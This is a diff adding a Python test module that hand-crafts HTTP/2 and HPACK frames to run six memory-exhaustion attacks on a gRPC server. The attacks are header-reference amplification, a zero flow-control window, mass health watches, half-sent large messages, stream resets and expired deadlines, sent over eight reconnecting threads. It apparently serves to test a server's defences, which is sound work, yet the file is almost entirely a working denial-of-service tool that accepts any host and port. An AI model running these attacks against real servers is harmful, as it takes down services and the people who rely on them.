@@ -1,0 +1,182 @@
+"""What a client without a token can send over HTTP/2 to take a server's memory.
+
+python -m tests.attack.attacks ATTACK ACKNOWLEDGEMENT HOST PORT SECONDS
+
+It prints the bytes that it sent. Frames are those of RFC 9113, headers those of RFC 7541.
+"""
+
+from __future__ import annotations
+
+import socket
+import struct
+import sys
+import threading
+import time
+from collections.abc import Callable, Iterator
+
+__all__ = ["ACKNOWLEDGEMENTS", "ATTACKS", "main"]
+
+CONNECTIONS = 8
+SOURCE = "127.0.0.2"
+"""Of the connections: limits for each address do not meet the good clients."""
+BYTES_MAX = 64 << 20  # Of one connection.
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
+END_STREAM, END_HEADERS, ACK = 1, 4, 1
+CHECK, WATCH = b"/grpc.health.v1.Health/Check", b"/grpc.health.v1.Health/Watch"
+STREAMS_MAX = 2**31 - 1
+BATCH = 10  # Calls that are sent at once.
+VALUE_CHARS = 3000  # Of the header that is referred to: it fits the default table of 4096 bytes.
+REFERENCES = 16_000  # In a frame of at most 16,384 bytes.
+ACKNOWLEDGEMENTS = ("correct", "early", "missing")
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def integer(value: int, bits: int) -> bytes:
+    """RFC 7541, section 5.1, behind a prefix of zeros."""
+    most = (1 << bits) - 1
+    if value < most:
+        return bytes([value])
+    text, value = bytes([most]), value - most
+    while value >= 128:
+        text, value = text + bytes([value % 128 + 128]), value // 128
+    return text + bytes([value])
+
+
+def literal(name: bytes, value: bytes) -> bytes:
+    return b"\0" + integer(len(name), 7) + name + integer(len(value), 7) + value
+
+
+def call_headers(path: bytes, *extra: bytes) -> bytes:
+    """Of a call, without any compression: RFC 7541, section 6.2.2."""
+    return b"".join(
+        [
+            literal(b":method", b"POST"),
+            literal(b":scheme", b"http"),
+            literal(b":path", path),
+            literal(b":authority", b"localhost"),
+            literal(b"te", b"trailers"),
+            literal(b"content-type", b"application/grpc"),
+            *extra,
+        ]
+    )
+
+
+def begin(stream: int, block: bytes) -> bytes:
+    return frame(HEADERS, END_HEADERS, stream, block)
+
+
+def empty_message(stream: int) -> bytes:
+    return frame(DATA, END_STREAM, stream, bytes(5))
+
+
+def references(stream: int) -> bytes:
+    """A header in the table of the connection, then 8 frames that name it byte by byte."""
+    added = b"\x40" + integer(1, 7) + b"x" + integer(VALUE_CHARS, 7) + b"v" * VALUE_CHARS
+    first = frame(HEADERS, 0, stream, call_headers(CHECK) + added)
+    named = frame(CONTINUATION, 0, stream, b"\xbe" * REFERENCES)
+    return first + 7 * named + frame(CONTINUATION, END_HEADERS, stream, b"\xbe" * REFERENCES)
+
+
+def unread_answer(stream: int) -> bytes:
+    return begin(stream, call_headers(CHECK)) + empty_message(stream)
+
+
+def watch(stream: int) -> bytes:
+    return begin(stream, call_headers(WATCH)) + empty_message(stream)
+
+
+def half_sent(stream: int) -> bytes:
+    """The headers, and of a message of 60 MiB the first bytes."""
+    return begin(stream, call_headers(CHECK)) + frame(
+        DATA, 0, stream, struct.pack(">BI", 0, 60 << 20) + bytes(100)
+    )
+
+
+def reset(stream: int) -> bytes:
+    return begin(stream, call_headers(CHECK)) + frame(RST_STREAM, 0, stream, bytes(4))
+
+
+def expired(stream: int) -> bytes:
+    return begin(stream, call_headers(CHECK, literal(b"grpc-timeout", b"1n")))
+
+
+ATTACKS: dict[str, tuple[Callable[[int], bytes], bytes]] = {
+    "header references": (references, b""),
+    "unread answers": (unread_answer, struct.pack(">HI", 4, 0)),  # INITIAL_WINDOW_SIZE = 0.
+    "health watches": (watch, b""),
+    "half-sent calls": (half_sent, b""),
+    "resets": (reset, b""),
+    "expired deadlines": (expired, b""),
+}
+
+
+def attack(name: str, acknowledgement: str, address: tuple[str, int], until: float) -> int:
+    """Connects again and again. Gives the bytes that were sent."""
+    sent = 0
+    while time.monotonic() < until:
+        try:
+            with socket.create_connection(address, 1, (SOURCE, 0)) as connection:
+                for some in bytes_of(name, acknowledgement, connection, until):
+                    connection.sendall(some)
+                    sent += len(some)
+        except OSError:  # The server has closed the connection, or reads no more.
+            time.sleep(0.01)
+    return sent
+
+
+def bytes_of(
+    name: str, acknowledgement: str, connection: socket.socket, until: float
+) -> Iterator[bytes]:
+    make, settings = ATTACKS[name]
+    acknowledged = frame(SETTINGS, ACK, 0, b"")
+    hello = PREFACE + frame(SETTINGS, 0, 0, settings)
+    yield hello + acknowledged if acknowledgement == "early" else hello
+    if acknowledgement == "correct":
+        connection.recv(9)
+        yield acknowledged
+    reader = threading.Thread(target=read_all, args=(connection,), daemon=True)
+    reader.start()
+    total = 0
+    for first in range(1, STREAMS_MAX, 2 * BATCH):
+        if time.monotonic() >= until:
+            return
+        if total >= BYTES_MAX:  # What is open stays open until the end.
+            time.sleep(0.01)
+            continue
+        some = b"".join(make(stream) for stream in range(first, first + 2 * BATCH, 2))
+        total += len(some)
+        yield some
+
+
+def read_all(connection: socket.socket) -> None:
+    """Answers are read and dropped, so that the server's writes do not end the attack."""
+    while True:
+        try:
+            if not connection.recv(1 << 16):
+                return
+        except TimeoutError:  # Nothing was sent for a second.
+            continue
+        except OSError:  # Closed.
+            return
+
+
+def main(name: str, acknowledgement: str, host: str, port: str, seconds: str) -> None:
+    until, sent = time.monotonic() + float(seconds), [0] * CONNECTIONS
+
+    def run(number: int) -> None:
+        sent[number] = attack(name, acknowledgement, (host, int(port)), until)
+
+    threads = [threading.Thread(target=run, args=(number,)) for number in range(CONNECTIONS)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    print(sum(sent))
+
+
+if __name__ == "__main__":
+    main(*sys.argv[1:])
